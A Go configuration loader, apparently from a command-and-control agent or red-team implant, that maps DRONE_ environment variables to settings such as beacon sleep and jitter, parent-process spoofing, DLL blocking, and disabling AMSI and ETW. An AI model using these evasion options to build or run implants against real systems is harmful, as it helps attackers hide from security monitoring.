package config

// loader.go - profile loading from a YAML file and environment
// variables.
//
// Precedence order (highest wins):
//   1. CLI flags  (handled by cmd/root.go)
//   2. Environment variables  (LoadFromEnv)
//   3. Profile file  (LoadFile)
//   4. Defaults   (defaults.go)

import (
	"bytes"
	"fmt"
	"io"
	"os"
	"strconv"
	"strings"
	"time"

	"gopkg.in/yaml.v3"
)

// LoadFile overlays the YAML profile at path onto cfg.  Keys missing
// from the file keep their current value; unknown keys are an error.
func LoadFile(path string, cfg *Config) error {
	data, err := os.ReadFile(path)
	if err != nil {
		return fmt.Errorf("read profile: %w", err)
	}
	dec := yaml.NewDecoder(bytes.NewReader(data))
	dec.KnownFields(true)
	if err := dec.Decode(cfg); err != nil {
		if err == io.EOF {
			return nil // empty profile
		}
		return fmt.Errorf("parse profile %s: %w", path, err)
	}
	return nil
}

// ── Environment variable mapping ─────────────────────────────────────
//
// Every supported env var uses the DRONE_ prefix.  Boolean values
// accept "1", "true", "yes" (case-insensitive).

// ProfileFromEnv returns the profile path named by DRONE_PROFILE.
func ProfileFromEnv() string { return os.Getenv(EnvPrefix + "PROFILE") }

// LoadFromEnv overlays environment variables onto cfg.  Only non-empty
// env vars override the existing value.  Apply it after the profile
// file and before the flags the user set, so the order of precedence
// is flags, environment, profile, defaults.
func LoadFromEnv(cfg *Config) {
	if v := env("ID"); v != "" {
		cfg.AgentID = v
	}

	if v, ok := envInt("SLEEP"); ok {
		cfg.SleepInterval = v
	}
	if v, ok := envInt("JITTER"); ok {
		cfg.SleepJitter = v
	}
	if v, ok := envInt("PPID"); ok {
		cfg.ParentProcessID = v
	}
	if envBool("BLOCK_DLLS") {
		cfg.BlockDLLs = true
	}
	if envBool("DISABLE_AMSI") {
		cfg.DisableAMSI = true
	}
	if envBool("DISABLE_ETW") {
		cfg.DisableETW = true
	}

	// Tasks and modules
	if v := env("TASKS"); v != "" {
		cfg.TaskSource = v
	}
	if envBool("FOLLOW") {
		cfg.Follow = true
	}
	if v, ok := envInt("WORKERS"); ok {
		cfg.Workers = v
	}
	if v := env("INVOKE_TIMEOUT"); v != "" {
		if d, err := time.ParseDuration(v); err == nil {
			cfg.InvokeTimeout = d
		}
	}
	if v := env("MODULES"); v != "" {
		for _, p := range strings.Split(v, string(os.PathListSeparator)) {
			if p = strings.TrimSpace(p); p != "" {
				cfg.Modules = append(cfg.Modules, p)
			}
		}
	}

	// Output
	if v, ok := envInt("VERBOSE"); ok && v > 0 {
		cfg.Verbose = v
	}
	if v := env("LOG_FILE"); v != "" {
		cfg.LogFile = v
	}
	if v := env("LOG_FORMAT"); v != "" {
		cfg.LogFormat = strings.ToLower(v)
	}
	if envBool("METRICS") {
		cfg.Metrics = true
	}
}

// ── helpers ──────────────────────────────────────────────────────────

func env(key string) string {
	return os.Getenv(EnvPrefix + key)
}

func envInt(key string) (int, bool) {
	v := env(key)
	if v == "" {
		return 0, false
	}
	n, err := strconv.Atoi(v)
	if err != nil {
		return 0, false
	}
	return n, true
}

func envBool(key string) bool {
	v := strings.ToLower(env(key))
	return v == "1" || v == "true" || v == "yes"
}
